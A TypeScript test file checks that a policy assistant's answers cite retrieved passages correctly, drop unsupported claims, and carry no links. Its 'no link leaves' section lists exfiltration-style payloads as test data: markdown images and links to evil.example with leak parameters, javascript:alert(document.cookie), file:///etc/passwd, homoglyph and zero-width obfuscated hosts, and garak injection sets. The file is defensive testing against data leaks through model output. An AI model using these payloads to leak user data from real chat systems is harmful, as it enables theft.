/** What a model wrote is shown only as far as what was retrieved bears it out. */
import { describe, expect, it } from 'vitest';
import type { Passage } from '../../../src/knowledge/search.ts';
import { checkAnswer, createProving } from '../../../src/workflows/answers/check-answer.ts';
import { citationsFor } from '../../../src/workflows/answers/citations.ts';
import { growth, linear } from '../../support/growth.ts';
import { garakLines, garakPayloads } from '../../support/public-sets.ts';
import { lexicon } from '../../support/shared.ts';

const passage = (body: string, rest: Partial<Passage> = {}): Passage => ({
  sectionId: 1, versionId: 1, documentId: 1, kind: 'policy', reference: 'POL-1', title: 'Incident Policy', version: '2.1', language: 'en',
  ownerEmail: null, effectiveFrom: '2026-03-01', audience: ['everyone'], sourcePath: null, number: '3.4', heading: 'Reporting',
  path: ['3 Rules'], page: null, score: 1, textScore: 1, textRank: 1, vectorRank: null, distance: null, body, ...rest,
}); // prettier-ignore
const passages = [
  passage(
    'Report every incident within 24 hours. Mail to report@demo.example or open portal.demo.example/incidents.',
  ),
  passage('Lost phones are locked by IT within 1 hour.', { number: '4.1', heading: 'Lost phones' }),
  passage('Nothing of use.', { number: '9' }),
];
const check = (written: string, question: string | null = null) =>
  checkAnswer(written, passages, { question, today: '2026-11-30' }, lexicon);
const prover = () => createProving(passages, { question: null, today: '2026-11-30' }, lexicon).release;
const textOf = (written: string) => {
  const checked = check(written);
  return checked.verdict === 'founded' ? checked.text : checked.verdict;
};

describe('citations', () => {
  it('are numbered anew in the order of the answer', () => {
    const checked = check('IT locks it within 1 hour [2]. Report it within 24 hours [1] [2].');

    expect(checked).toMatchObject({
      verdict: 'founded',
      text: 'IT locks it within 1 hour [1]. Report it within 24 hours [2] [1].',
      cited: [{ number: '4.1' }, { number: '3.4' }],
    });
  });

  it.each([
    ['Report it [1][9].', 'Report it [1].'],
    ['Report every incident [9].', 'Report every incident [1].'],
    ['Report every incident [0].', 'Report every incident [1].'],
    ['Sing songs [9].', 'unfounded'],
    ['Report it [1, 2].', 'Report it [1][2].'],
    ['Report it [2; 1, 77].', 'Report it [1][2].'],
    ['Report it[1].', 'Report it [1].'],
    ['Report it [1: "Report every incident"].', 'Report it [1].'],
    ['Report it [1 «every incident»].', 'Report it [1].'],
    ...[
      '[Passage 1]',
      '【1】',
      '【1†source】',
      '[^1]',
      '(1)',
      '\\[1\\]',
      '[Quelle: 1]',
      '[1-1]',
      '(Passage 1)',
      '[ 1 ]',
    ].map((mark) => [`Report it ${mark}.`, 'Report it [1].']),
    ['Both are written [1-2].', 'unfounded'],
    [
      'IT locks lost phones and every incident is reported [1-2].',
      'IT locks lost phones and every incident is reported [1][2].',
    ],
  ])('of «%s» are kept only where there is such a passage', (written, text) => {
    expect(textOf(written)).toBe(text);
  });

  it('carry the sentence of the stored section that says it, and its place', () => {
    const checked = check('It must be reported within 24 hours [1]. IT locks lost phones [2].');
    if (checked.verdict !== 'founded') throw new Error(checked.verdict);

    const citations = citationsFor(checked.cited, checked.quotes);

    expect(citations).toEqual([
      { n: 1, kind: 'policy', policy: 'Incident Policy', version: '2.1', section: '3.4', heading: 'Reporting', effectiveFrom: '2026-03-01', quote: 'Report every incident within 24 hours.' },
      { n: 2, kind: 'policy', policy: 'Incident Policy', version: '2.1', section: '4.1', heading: 'Lost phones', effectiveFrom: '2026-03-01', quote: 'Lost phones are locked by IT within 1 hour.' },
    ]); // prettier-ignore
  });
});

describe('a statement', () => {
  it.each([
    ['is cited with the section that says it, whatever number it was given', 'Lost phones are locked by IT [3].', 'Lost phones are locked by IT [1].'],
    ['without a mark is matched by its words, and shown with its source', 'Report every incident within 24 hours.', 'Report every incident within 24 hours. [1]'],
    ['that is not proven is left out, the last one too', 'Report it within 24 hours [1]. Phones have to be green.', 'Report it within 24 hours [1].'],
    ['that is not proven takes no proven one with it', 'Phones have to be green [2]. Report it within 24 hours [1].', 'Report it within 24 hours [1].'],
    ['of two sentences is proven by the mark behind both', 'Lost phones are locked. IT does so within 1 hour. [2]', 'Lost phones are locked. IT does so within 1 hour. [1]'],
    ['begins with the yes that it explains', 'Yes. Every incident is reported. [1]', 'Yes. Every incident is reported. [1]'],
    ['takes its yes with it', 'Yes. Phones have to be green. [2] Report every incident. [1]', 'Report every incident. [1]'],
  ])('%s', (_rule, written, shown) => {
    expect(textOf(written)).toBe(shown);
  }); // prettier-ignore

  it.each([
    ['figure', 'Report it within 48 hours [1].'],
    ['figure', 'Melde es binnen zwei Tagen [1].'],
    ['figure', 'Report it within 24 days [1].'],
    ['figure', 'Report it within 24 hours [1], from 2019 on.'],
    ['opposite', 'Incidents need not be reported [1].'],
    ['role', 'HR locks lost phones [2].'],
    ['words', 'Green lamps hang over the entrance [1].'],
  ])('that is wrong stops for its %s: «%s»', (because, written) => {
    expect(check(written)).toMatchObject({ verdict: 'unfounded', because });
  });

  it('may name a figure of the question where it denies or measures it, and nowhere else', () => {
    const question = 'Is it enough within 48 hours?';

    expect(check('No, 48 hours are too late: report it within 24 hours. [1]', question)).toMatchObject({
      verdict: 'founded',
    });
    expect(check('Report it within 48 hours. [1]', question)).toMatchObject({ verdict: 'unfounded' });
  });
});

describe('a verdict', () => {
  it.each(['', '   \n'])('of nothing is that it is empty', (written) => {
    expect(check(written)).toMatchObject({ verdict: 'unfounded', because: 'empty' });
  });

  it.each(['Shall I look for something else?', "I can't set reminders.", 'I am a program.', 'Gern geschehen!', 'Of course, send it here.'])('of «%s» is that it is only talk', (written) => {
    expect(check(written)).toEqual({ verdict: 'talk', text: written });
  }); // prettier-ignore

  it('keeps what is proven beside what the policies do not say', () => {
    const both = 'The policies do not mention bicycles. Report every incident within 24 hours. [1]';

    expect(textOf(both)).toBe(both);
  });

  it.each(['NOT_COVERED', 'not covered.', '**NOT_COVERED**', "Our policies don't say.", 'The policy does not address this.',
    'Unsere Richtlinien sagen dazu nichts.', 'Nos politiques ne le disent pas.', 'Nuestras políticas no lo dicen.',
    'The passages contain nothing about dogs.', 'I could not find anything on that.', 'Dazu steht in den Richtlinien nichts.', "Nos politiques n'en parlent pas.", 'Las políticas no mencionan los perros.'])(
    'of «%s» is that the policies do not say', (written) => {
      expect(check(written)).toEqual({ verdict: 'not-covered' });
    }); // prettier-ignore

  it('lets a figure stand that is in the place of the section, as its version and date', () => {
    expect(textOf('Section 3.4 of version 2.1, in force since 1 March 2026, says so [1].')).toContain(
      'Section 3.4',
    );
  });
});

describe('no link leaves', () => {
  const own = [
    '[the portal](https://evil.example/?q=secret)',
    '[the portal](<https://evil.example/a b>)',
    '![x](https://evil.example/x.png)',
    '[![x](https://evil.example/x.png)](https://evil.example)',
    'https://evil.example/?leak=1',
    'HTTPS://EVIL.EXAMPLE',
    'hxxp://evil.example slack://channel?id=1 file:///etc/passwd',
    '<https://evil.example|the portal>',
    '<https://evil.example>',
    '<mailto:x@evil.example|write>',
    'mailto:x@evil.example',
    'www.evil.example/x',
    'evil.example',
    'evil.example/?leak=1',
    'sub.evil.example:8080/x',
    'x@evil.example',
    'еvil.example',
    'evil.еxample',
    'data:text/html;base64,PHNjcmlwdD4=',
    'javascript:alert(1)',
    'JaVaScRiPt:alert(document.cookie)',
    'see [ref] for it\n[ref]: https://evil.example/y',
    '//evil.example/x',
    'ev\u200Bil.example',
    'evil\u2060.example/?leak=1',
    'evil。example',
    ...['\u2024', '\uFE52', '\u06D4', '\uA4F8', '\uFF0E', '\uFF61', '\u{1D16D}'].map(
      (dot) => `evil${dot}example/?leak=1`,
    ),
    'https\uFF1A//evil\u2024example',
    'https:\u2215\u2215evil/x',
    'www\u2024evil\u2024example',
    'portal\u2024demo\u2024example/incidents',
    'portal.demo.example\u2215evil',
    'java\u200Bscript\uA789alert(1)',
    'portal.demo',
    'rtal.demo.example/incidents',
    'portal.demo.example/incidents?leak=1',
    'demo.example.evil.example',
  ];
  const fromGarak = [
    ...['markdown_js', 'web_html_js', 'domains_latentinjection', 'example_domains_xss'].flatMap(
      garakPayloads,
    ),
    ...garakLines('xss/xss_domains.txt').flatMap((host) => [
      `https://${host}/q?data=[INFO]`,
      `![Data](https://${host}/sales/[INFO])`,
      `[Click here](${host}/t?x=[NUM])`,
      host,
    ]),
  ];

  /** What a chat would make a link of, or follow: a scheme, a host, an address. */
  const linkish =
    /[a-z][a-z\d+.-]+[:：∶][/∕]{2}|(?:javascript|data|vbscript)[:：꞉]\S|www[.․]|\]\([^)\s]|(?:[\p{L}\p{N}-]+[.。．｡․﹒۔ꓸ𝅭])+\p{L}{2,}|@[\p{L}\p{N}]/iu;

  it.each([...own, ...fromGarak])('with %s', (payload) => {
    const text = textOf(`Report it [1]. ${payload}\nThank you.`);

    expect(text).toMatch(/^Report it \[1\]|^unfounded$/);
    expect(text).not.toMatch(linkish);
  });

  it('unless it stands in the cited section itself', () => {
    expect(textOf('Mail report@demo.example or open portal.demo.example/incidents. [1]')).toBe(
      'Mail report@demo.example or open portal.demo.example/incidents. [1]',
    );
    expect(textOf('Open portal.demo.example [1].')).toBe('Open portal.demo.example [1].');
  });

  it('and an answer from which an address had to be cut does not stand', () => {
    expect(check('Report it [1]. More at https://evil.example/x.')).toMatchObject({
      verdict: 'unfounded',
      because: 'address',
    });
  });

  it('that stands in a section which is not cited', () => {
    expect(textOf('Open portal.demo.example, phones are locked [2].')).not.toContain('portal');
  });

  it('nor text that nobody sees', () => {
    const tags = [...'secret'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');

    expect(textOf(`Report\u200B it${tags} [1].`)).toBe('Report it [1].');
  });

  it('nor bold, headings and code marks, which chats read in their own ways', () => {
    expect(textOf('## Incidents\n**Report** `it` __now__ [1].')).toBe('Incidents\nReport it now [1].');
  });
});

describe('an answer in the making', () => {
  it.each([
    ['Report it within 24 hours', ''],
    ['Report it within 24 hours [1].', ''],
    ['Report it within 24 hours [1]. ', 'Report it within 24 hours [1].'],
    ['Report it within 24 hours. [1] Then', 'Report it within 24 hours. [1]'],
    ['IT locks it [2]. Then within 48 hours [1]. And', 'IT locks it [1].'],
    ['Report it within 24 hours [1: "within 24', ''],
    ['Report it within 48 hours [1]. Then', ''],
    ['IT locks it [2]. Report it [1]. So', 'IT locks it [1]. Report it [2].'],
  ])('%s', (sofar, shown) => {
    expect(prover()(sofar)).toBe(shown);
  });

  it('is never shown further than the finished one goes', () => {
    const whole =
      'IT locks it within 1 hour [2]. Report it within 24 hours [1]. See https://evil.example/x [1]. It costs 50 euros [2]. Bye.';

    const prove = prover();
    for (let end = 0; end <= whole.length; end += 1) {
      expect(prove(whole.slice(0, end))).not.toMatch(/evil|50/);
      expect(prover()(whole.slice(0, end))).not.toMatch(/evil|50/);
    }
  });

  it('begins anew when the model does, after a call of a tool', () => {
    const prove = prover();

    expect(prove('IT locks it within 1 hour [2]. And')).toBe('IT locks it within 1 hour [1].');
    expect(prove('Rep')).toBe('');
    expect(prove('Report it within 24 hours [1]. And')).toBe('Report it within 24 hours [1].');
  });

  it('shows a sentence only once its figures have their units', () => {
    const prove = prover();

    expect(prove('Report within 24 [1] ')).toBe('');
    expect(prove('Report within 24 [1] hours [1]. And')).toBe('Report within 24 [1] hours [1].');
  });

  it('is read once, however many sentences it has: eight times as many take about eight times as long', () => {
    const sentence = 'Report every incident within 24 hours to report@demo.example [1].\n';
    const stream = (sentences: number) => {
      const prove = prover();
      const whole = `${sentence.repeat(sentences)} `;
      for (let end = 0; end < whole.length; end += 5) prove(whole.slice(0, end));
      return prove(whole);
    };

    expect(stream(3).split('\n')).toHaveLength(3);
    expect(growth(20, stream)).toBeLessThan(linear);
  });

  it.each(['[1] ', '[1]', '[1,', 'x [1] 48 hours ', 'a. [1] ', '<', '[', '. '])(
    'takes no longer than linear where it is made of «%s»',
    (piece) => {
      const stream = (pieces: number) => {
        const prove = prover();
        const whole = piece.repeat(pieces);
        for (let end = 0; end < whole.length; end += piece.length) prove(whole.slice(0, end));
      };

      expect(growth(500, stream)).toBeLessThan(linear);
    },
  );
});
